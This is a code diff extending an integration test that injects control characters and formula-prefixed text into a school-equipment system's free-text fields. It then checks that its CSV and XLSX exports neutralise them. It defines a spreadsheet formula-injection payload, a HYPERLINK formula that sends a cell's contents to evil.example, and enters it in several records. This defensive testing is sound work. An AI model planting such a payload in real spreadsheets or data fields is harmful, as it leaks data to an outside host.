@@ -1,17 +1,23 @@
 """Generated text with control characters, direction overrides and formula prefixes, sent through the gateway
-into every free-text field of every command of the real system; then every export downloaded: no answer is a
-5xx, no cell of any export is a formula or carries a control character."""
+into every free-text field of every command of the real system; then every export downloaded (the reports, the
+lists of the API and of the pages in CSV and XLSX, the activity log, the pivot table, the renewal plan, the
+training's annual summary and convocation list, the resources' lists): no answer is a 5xx, no cell of any export
+is a formula or carries a control character."""
 import base64
 import csv
 import io
+import re
 
 import openpyxl
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from services.gateway.api import current_school_year
+from services.gateway.api import EXPORTS, current_school_year
+from services.gateway.queries import QUERIES
 from shared.text import FORMULA_PREFIXES
+from tests.helpers import wait_for
 from tests.integration.test_gateway_http import SCHOOLS, Client, cheap_argon2, start_system
+from tests.integration.test_web_axes import Browser
 from tests.unit.test_free_text import FIELDS, body_with
 
 NASTY = ["\x0b", "\x00", "\x01", "\x1b", "\x7f", "\x85", "\x9f", "\u202a", "\u202e", "\u2066", "\u2069", "\n", "\r",
@@ -29,10 +35,63 @@ def no_control(value):
 
 
 def no_formula_nor_control(cells):
-    """CSV cells: a spreadsheet runs what begins like a formula, so nothing may."""
+    """CSV cells: a spreadsheet runs what begins like a formula, so nothing may (a number is a number)."""
     for value in cells:
         no_control(value)
-        assert not value.startswith(FORMULA_PREFIXES), repr(value)
+        assert not value.startswith(FORMULA_PREFIXES) or NUMBER.fullmatch(value), repr(value)
+
+
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")"
+# Each list's pages and files, as the coordinator reads them: the API's exports, then the pages' files.
+API_EXPORTS = sorted(f"{path}/export" for path, endpoint, *_ in QUERIES if endpoint in EXPORTS)
+PAGE_FILES = ["/renewal.xlsx", "/trainings/summary?school_year={year}&export={fmt}",
+              "/pivot?period={year}&by=commune&format={fmt}", "/pivot?period={year}&by=school&format={fmt}",
+              *(f"/{listing}?export={{fmt}}" for listing in ("resources", "dysfunctions", "practices", "research",
+                                                             "workshops"))]
+
+
+def no_formula_in(content: bytes, fmt: str, where: str) -> None:
+    if fmt == "xlsx":
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], where
+        for cell in (c for c in cells if isinstance(c.value, str)):
+            no_control(cell.value)
+            # text that begins like a formula is stored as text, and stays so when edited
+            assert cell.quotePrefix or not cell.value.startswith(FORMULA_PREFIXES), (where, repr(cell.value))
+    else:
+        no_formula_nor_control(c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
+                               for c in row)
+
+
+def formula_like_records(coord: Client) -> None:
+    """A record in each list whose free text begins like a formula, so that every export has some to write."""
+    def sent(path, body):
+        # A 409 may be a service that has not yet read a school from inventory's events: asked again until known.
+        [answer] = wait_for(lambda: (lambda r: [r] if r.status_code != 409 or "unknown_" not in r.text else None)(
+            coord.post(path, body)))
+        assert answer.status_code == 201, (path, answer.status_code, answer.text[:300])
+        return answer.json()["events"]
+
+    received = sent("/api/inventory/receive_delivery", {"supplier": HYPERLINK, "delivery_ref": "+BL-1", "items": [
+        {"serial": "SN-F1", "kind": "laptop", "model": "-1", "warranty_months": 24},
+        {"serial": "SN-F2", "kind": "projector", "model": "@x", "warranty_months": 1}]})
+    assets = [e["data"]["asset_id"] for e in received if e["event_type"] == "equipment_received"]
+    for asset in assets:
+        sent("/api/inventory/assign_equipment", {"asset_id": asset, "school_code": "OED001"})
+    sent("/api/maintenance/declare_fault", {"asset_id": assets[0], "school_code": "OED001", "symptom": HYPERLINK})
+    sent("/api/inventory/record_usage_visit", {"school_code": "OED001", "notes": "@visite", "observations": [
+        {"asset_id": assets[1], "status": "unused"}]})
+    sent("/api/inventory/propose_transfer", {"asset_ids": [assets[1]], "from_school": "OED001",
+                                             "to_school": "OED002", "reason": "=1+1", "report": "+rapport"})
+    sent("/api/resources/receive_resource", {"title": HYPERLINK, "subject": "-maths", "levels": ["@CE5"],
+                                             "format": "video", "origin": "directorate"})
+    sent("/api/resources/report_dysfunction", {"school_code": "OED001", "description": "=1+1"})
+    sent("/api/resources/record_good_practice", {"school_code": "OED001", "teacher": "+Amal", "description": "@x"})
+    sent("/api/resources/hold_awareness_workshop", {"school_codes": ["OED001"], "participants": 12,
+                                                    "topic": HYPERLINK})
+    sent("/api/resources/record_local_research", {"title": "=1", "findings": "-x", "recommendations": "@y"})
 
 
 def test_no_generated_text_breaks_a_command_or_an_export(genie_env, runner_factory, rabbit_config, monkeypatch, rpc):
@@ -76,21 +135,37 @@ def test_no_generated_text_breaks_a_command_or_an_export(genie_env, runner_facto
     one()
     assert accepted["schools"] and accepted["people"]  # formula-like names are accepted: the exports must cope
 
+    formula_like_records(coord)
+
     for fmt in ("xlsx", "csv"):
         download = coord.get("/api/reports/download", scope="province:OED", period=YEAR, format=fmt)
         assert download.status_code == 200, download.text[:300]
-        if fmt == "xlsx":
-            book = openpyxl.load_workbook(io.BytesIO(download.content))
-            cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
-            assert not [c.coordinate for c in cells if c.data_type == "f"]
-            for cell in (c for c in cells if isinstance(c.value, str)):
-                no_control(cell.value)
-                # text that begins like a formula is stored as text, and stays so when edited
-                assert cell.quotePrefix or not cell.value.startswith(FORMULA_PREFIXES), repr(cell.value)
-        else:
-            no_formula_nor_control(c for row in csv.reader(io.StringIO(download.content.decode("utf-8-sig")))
-                                   for c in row)
+        no_formula_in(download.content, fmt, "report")
     for lang in ("fr", "ar"):
         listing = rpc.training.convocation_list(session_id, "csv", lang)
         text = base64.b64decode(listing["content_base64"]).decode() if isinstance(listing, dict) else listing
         no_formula_nor_control(c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row)
+
+    # Every list's file, each format in each language: the API's exports (the activity log among them), then the
+    # pages' files as the coordinator downloads them.
+    downloads = [(path, {"format": fmt, "lang": lang}, fmt) for path in API_EXPORTS for fmt in ("csv", "xlsx")
+                 for lang in ("fr", "ar")]
+    for path, params, fmt in downloads:
+        answer = coord.get(path, **params)
+        assert answer.status_code == 200, (path, params, answer.status_code, answer.text[:300])
+        no_formula_in(answer.content, fmt, path)
+    web = Browser(coord.base, "fatima")
+    pages = {(page.format(year=YEAR, fmt=fmt), "xlsx" if page.endswith(".xlsx") else fmt)
+             for page in PAGE_FILES for fmt in ("csv", "xlsx")}
+    pages.add((f"/sessions/{session_id}/convocation.csv", "csv"))
+    for page, fmt in sorted(pages):
+        for lang in ("fr", "ar"):
+            answer = web.get(page + ("&" if "?" in page else "?") + f"lang={lang}")
+            assert answer.status_code == 200, (page, lang, answer.status_code, answer.text[:300])
+            assert not answer.headers["Content-Type"].startswith("text/html"), (page, answer.text[:300])
+            no_formula_in(answer.content, fmt, page)
+    # The formula-like names did reach the files: a school's name in the schools' list, a supplier in the register.
+    schools = coord.get("/api/schools/export", format="csv").content.decode("utf-8-sig")
+    assert "'=" in schools or "'+" in schools or "'-" in schools or "'@" in schools
+    register = coord.get("/api/equipment/export", format="csv").content.decode("utf-8-sig")
+    assert "'" + HYPERLINK.replace('"', '""') in register
